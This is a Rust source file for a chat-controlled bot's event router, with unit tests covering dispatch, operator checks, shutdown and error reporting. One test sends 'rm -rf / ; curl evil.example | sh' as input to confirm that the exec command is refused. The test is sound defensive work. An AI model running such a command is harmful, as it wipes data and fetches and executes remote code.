//! # Event Router
//!
//! The driver between the channel transport and the command engine. Each
//! inbound message is handled on its own task so a slow handler never delays
//! intake; self-originated messages are dropped before dispatch; parse and
//! lookup failures stay silent. Once shutdown is signalled, no further
//! inbound events are processed.

use crate::application::parsing;
use crate::application::registry::{CommandContext, CommandRegistry};
use crate::domain::types::InboundMessage;
use crate::strings::messages;
use std::sync::Arc;

#[derive(Clone)]
pub struct EventRouter {
    registry: Arc<CommandRegistry>,
    ctx: Arc<CommandContext>,
    self_identity: String,
}

impl EventRouter {
    pub fn new(
        registry: Arc<CommandRegistry>,
        ctx: Arc<CommandContext>,
        self_identity: String,
    ) -> Self {
        Self {
            registry,
            ctx,
            self_identity,
        }
    }

    /// Entry point for inbound private messages. Returns immediately; the
    /// actual handling runs on a spawned task.
    pub fn handle_event(&self, msg: InboundMessage) {
        if *self.ctx.shutdown.borrow() {
            tracing::debug!("shutting down, dropping message from {}", msg.sender);
            return;
        }
        if msg.sender == self.self_identity {
            tracing::debug!("ignoring own message");
            return;
        }

        let router = self.clone();
        tokio::spawn(async move {
            router.dispatch(msg).await;
        });
    }

    async fn dispatch(&self, msg: InboundMessage) {
        tracing::info!(
            "{} at {}: {}",
            msg.sender,
            msg.received_at.format("%H:%M:%S"),
            msg.body
        );

        let parsed = match parsing::parse(&msg.body, &self.registry) {
            Ok(parsed) => parsed,
            // Empty and unrecognized messages get no reply, by design.
            Err(e) => {
                tracing::debug!("dropping message: {}", e);
                return;
            }
        };

        let Some(handler) = self.registry.lookup(&parsed.name) else {
            return;
        };

        if handler.operator_only() && msg.sender != self.ctx.config.channel.operator {
            tracing::warn!("{} denied command '{}'", msg.sender, parsed.name);
            let _ = self
                .ctx
                .guard
                .send(messages::AUTH_DENIED, Some(&msg.sender))
                .await;
            return;
        }

        let reply = handler.run(&self.ctx, &parsed.args, &msg.sender).await;
        if reply.is_empty() {
            return;
        }

        if let Err(e) = self.ctx.guard.send_all(&reply, Some(&msg.sender)).await {
            tracing::warn!("reply delivery failed: {}", e);
        }
    }

    /// Unrelated channel activity (public rooms, presence, ...) is logged only.
    pub fn on_unrelated_event(&self, description: &str) {
        tracing::debug!("unrelated event: {}", description);
    }

    /// Transport errors are logged and reported to the operator.
    pub async fn on_transport_error(&self, err: &str) {
        tracing::error!("transport error: {}", err);
        let _ = self
            .ctx
            .guard
            .send(&messages::transport_error(err), None)
            .await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::application::registry::default_registry;
    use crate::testing::{OPERATOR, RecordingChannel, SELF_IDENTITY, STRANGER, test_context};
    use tokio::sync::watch;

    fn test_router(
        channel: std::sync::Arc<RecordingChannel>,
    ) -> (EventRouter, watch::Receiver<bool>) {
        let registry = Arc::new(default_registry().unwrap());
        let (ctx, shutdown_rx) = test_context(channel);
        (
            EventRouter::new(registry, ctx, SELF_IDENTITY.to_string()),
            shutdown_rx,
        )
    }

    fn msg(sender: &str, body: &str) -> InboundMessage {
        InboundMessage::new(sender.to_string(), body.to_string())
    }

    #[tokio::test]
    async fn time_command_replies_once_with_a_timestamp() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        router.dispatch(msg(OPERATOR, "Time")).await;

        let sent = channel.sent();
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].0, OPERATOR);
        assert!(sent[0].1.starts_with("It's "), "got: {}", sent[0].1);
    }

    #[tokio::test]
    async fn unknown_command_is_silent() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        router.dispatch(msg(OPERATOR, "frobnicate the widget")).await;
        assert!(channel.sent().is_empty());
    }

    #[tokio::test]
    async fn empty_message_is_silent() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        router.dispatch(msg(OPERATOR, "   ")).await;
        assert!(channel.sent().is_empty());
    }

    #[tokio::test]
    async fn own_messages_are_never_dispatched() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        router.handle_event(msg(SELF_IDENTITY, "kill"));
        tokio::task::yield_now().await;
        assert!(channel.sent().is_empty());
    }

    #[tokio::test]
    async fn exec_always_returns_the_refusal() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        router
            .dispatch(msg(OPERATOR, "exec rm -rf / ; curl evil.example | sh"))
            .await;

        let sent = channel.sent();
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].1, messages::EXEC_DISABLED);
    }

    #[tokio::test]
    async fn help_lists_every_registered_command() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        router.dispatch(msg(STRANGER, "help")).await;

        let sent = channel.sent();
        assert_eq!(sent.len(), 1);
        assert_eq!(
            sent[0].1,
            "Available commands: alert, exec, help, info, kill, say, time, todo, update, upgrade"
        );
    }

    #[tokio::test]
    async fn state_changing_commands_require_the_operator() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        router.dispatch(msg(STRANGER, "update")).await;

        let sent = channel.sent();
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].0, STRANGER);
        assert_eq!(sent[0].1, messages::AUTH_DENIED);
    }

    #[tokio::test]
    async fn no_reply_commands_send_nothing() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        // The utility is absent in the test environment; the failure is
        // logged and the command still produces no reply.
        router.dispatch(msg(OPERATOR, "say good morning")).await;
        assert!(channel.sent().is_empty());
    }

    #[tokio::test]
    async fn kill_confirms_then_signals_shutdown() {
        let channel = RecordingChannel::new();
        let (router, rx) = test_router(channel.clone());

        router.dispatch(msg(OPERATOR, "kill")).await;

        let sent = channel.sent();
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].1, messages::KILL_CONFIRM);
        assert!(*rx.borrow());

        // Nothing is processed once the driver is shutting down.
        router.handle_event(msg(OPERATOR, "time"));
        tokio::task::yield_now().await;
        assert_eq!(channel.sent().len(), 1);
    }

    #[tokio::test]
    async fn transport_errors_are_reported_to_the_operator() {
        let channel = RecordingChannel::new();
        let (router, _rx) = test_router(channel.clone());

        router.on_transport_error("stream reset by peer").await;

        let sent = channel.sent();
        assert_eq!(sent.len(), 1);
        assert_eq!(sent[0].0, OPERATOR);
        assert!(sent[0].1.contains("stream reset by peer"));
    }
}
